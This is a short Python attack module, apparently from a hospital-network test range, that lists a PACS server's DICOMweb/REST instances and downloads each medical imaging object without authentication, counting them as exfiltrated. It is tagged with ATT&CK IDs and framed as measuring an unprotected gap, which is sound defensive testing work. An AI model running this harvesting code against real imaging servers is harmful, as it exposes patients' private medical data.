"""DICOMweb/REST harvesting without authentication: list and download from the PACS's web API (T1213, T1530).

No layer of the range fronts the PACS's web port: a measured gap (the scan reports the open API).
"""

from __future__ import annotations

from radguard.range.attacks.kit import Attack, Context, Outcome


def run(ctx: Context) -> Outcome:
    instances = ctx.rest_json("/instances") or []
    got = 0
    for iid in instances:
        code, body = ctx.rest("GET", f"/instances/{iid}/file")
        got += code == 200 and len(body) > 132
    return Outcome(success=got > 0, impact={"objects_exfiltrated": got},
                   note=f"{got} objects downloaded over REST without credentials")


ATTACK = Attack(
    name="rest-harvest", title="REST/DICOMweb harvesting without auth", attack_ids=("T1213", "T1530"),
    precondition="network access to the PACS's web port", objective="objects downloaded over HTTP",
    layers=(), run=run)
